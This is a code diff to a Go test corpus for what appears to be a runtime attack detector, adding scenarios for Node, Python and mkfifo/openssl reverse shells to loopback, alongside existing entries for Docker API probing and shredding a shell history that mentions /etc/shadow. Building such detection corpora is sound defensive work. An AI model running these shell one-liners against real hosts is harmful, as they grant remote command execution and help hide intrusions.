@@ -112,6 +112,12 @@ var Attacks = []Scenario{
 	{Name: "docker-api-tcp", Class: detector.ClassFSEscape, Desc: "curl of the Docker API over TCP on loopback (127.0.0.1:2375, refused: no daemon)", Cmd: []string{"sh", "-c", "curl -s --max-time 2 http://127.0.0.1:2375/containers/json; true"}},
 	{Name: "history-truncate-shred", Class: detector.ClassFSEscape, Desc: "a .bash_history of its own emptied with truncate -s0, then shred -u (ftruncate through the fd, renamed away, unlinked)", Cmd: []string{"sh", "-c",
 		`d=$(mktemp -d); printf 'id\ncat /etc/shadow\n' > $d/.bash_history; truncate -s0 $d/.bash_history; echo x > $d/.bash_history; shred -u $d/.bash_history; rm -rf $d`}},
+	{Name: "node-pipe-shell", Class: detector.ClassNetwork, Desc: "node: child_process.spawn of /bin/sh with pipes, relayed to and from a connection (revshells' node one-liner)", Cmd: []string{"node", "-e",
+		`const n=require("net"),cp=require("child_process");const sh=cp.spawn("/bin/sh",[]);const c=n.connect(+process.env.PORT,"127.0.0.1",()=>{c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c)});sh.on("exit",()=>c.destroy())`}, Env: []string{"PORT={port}"}},
+	{Name: "python-pipe-shell", Class: detector.ClassNetwork, Desc: "python: Popen of /bin/sh -i with pipes, fed what the connection sends, its output sent back", Cmd: []string{"/usr/bin/python3", "-c",
+		`import socket,subprocess,os;s=socket.socket();s.connect(("127.0.0.1",int(os.environ["PORT"])));p=subprocess.Popen(["/bin/sh","-i"],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT);p.stdin.write(s.recv(1024));p.stdin.close();s.sendall(p.stdout.read());s.close()`}, Env: []string{"PORT={port}"}},
+	{Name: "fifo-openssl-shell", Class: detector.ClassNetwork, Desc: "mkfifo, `sh -i < fifo 2>&1 | openssl s_client -quiet -connect 127.0.0.1:PORT > fifo` (the listener speaks no TLS: s_client gives up)", Cmd: []string{"sh", "-c",
+		`f=$(mktemp -u /tmp/vigil-fifo-XXXXXX); mkfifo $f; /bin/sh -i < $f 2>&1 | timeout 5 openssl s_client -quiet -connect 127.0.0.1:$PORT > $f 2>/dev/null; rm -f $f; true`}, Env: []string{"PORT={port}"}},
 }
 
 // Benign is the corpus of everyday work: no run may get a verdict. The
